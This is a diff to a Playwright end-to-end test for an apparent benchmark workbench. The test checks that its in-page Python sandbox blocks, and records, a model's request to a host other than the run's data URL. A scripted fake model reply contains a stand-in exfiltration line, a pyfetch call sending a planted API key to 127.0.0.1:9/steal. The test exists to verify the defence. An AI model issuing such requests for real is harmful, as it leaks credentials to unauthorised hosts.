@@ -26,21 +26,38 @@ const replies = (
     readFileSync(join(REPO_ROOT, 'tests/fixtures/replays/stdlib-correct.json'), 'utf8'),
   ) as { responses: string[] }
 ).responses;
+/** A model whose code asks a host other than the run's data URL. */
+const egress = [
+  [
+    'Trying another host.',
+    '',
+    '```python',
+    'from pyodide.http import pyfetch',
+    "r = await pyfetch('http://127.0.0.1:9/steal?apikey=planted')",
+    'print(r.status, await r.text())',
+    '```',
+  ].join('\n'),
+  'DONE',
+];
 let server: ScriptedServer;
+let egressServer: ScriptedServer;
 
 beforeAll(async () => {
-  server = await startScriptedServer(replies);
+  [server, egressServer] = await Promise.all([
+    startScriptedServer(replies),
+    startScriptedServer(egress, { model: 'egress' }),
+  ]);
 });
 afterAll(async () => {
-  await server?.close();
+  await Promise.all([server?.close(), egressServer?.close()]);
 });
 
 /** Chooses the scripted OpenAI-compatible server on the benchmark page and presses Run. */
-async function runServerModel(page: Page): Promise<void> {
+async function runServerModel(page: Page, from = server, model = 'scripted-stdlib'): Promise<void> {
   await page.goto(`${wb.url}#/benchmarks/ab-test-analysis`);
   await page.getByLabel('OpenAI-compatible server').check();
-  await page.getByLabel(/Server URL/).fill(server.baseUrl);
-  await page.getByLabel('Model name').fill('scripted-stdlib');
+  await page.getByLabel(/Server URL/).fill(from.baseUrl);
+  await page.getByLabel('Model name').fill(model);
   await page.getByRole('button', { name: 'Run', exact: true }).click();
   await page.locator('.live-run').waitFor();
 }
@@ -121,6 +138,33 @@ describe('preflight and the Python environment in the page', { timeout: 240_000 
     const runJson = JSON.parse(readFileSync(join(unzipRunFolder(zip, work), 'run.json'), 'utf8'));
     expect(runJson.environment).toEqual({ packages: 'stdlib-only', loaded: [] });
     expect(runJson.prompts.user).toBe(task);
+    await setSettings(page, wb.url, { stdlibOnly: false });
+    await page.close();
+  });
+
+  it('a request to another host: the notebook, run.json and "How it ran" all say it was blocked and why', async () => {
+    const page = await wb.context.newPage();
+    await setSettings(page, wb.url, { stdlibOnly: true });
+    await runServerModel(page, egressServer, 'egress');
+    await page.locator('[data-testid="blocked-requests"]').waitFor({ timeout: 200_000 });
+    const why =
+      "request to 127.0.0.1:9 blocked: this sandbox only answers the run's data URL, http://embedded.localds.invalid/rest/v1/";
+    await expect(page.getByTestId('blocked-requests').innerText()).resolves.toContain(why);
+    await expect(page.locator('main').innerText()).resolves.toContain(
+      `403 localds sandbox: ${why}`,
+    );
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Download run folder (.zip)' }).click();
+    const zip = join(work, 'egress.zip');
+    await (await download).saveAs(zip);
+    const runJson = JSON.parse(readFileSync(join(unzipRunFolder(zip, work), 'run.json'), 'utf8'));
+    expect(runJson.trace.requests).toEqual([
+      expect.objectContaining({
+        url: 'http://127.0.0.1:9/steal',
+        status: 403,
+        blocked: expect.stringContaining(why),
+      }),
+    ]);
     await setSettings(page, wb.url, { stdlibOnly: false });
     await page.close();
   });
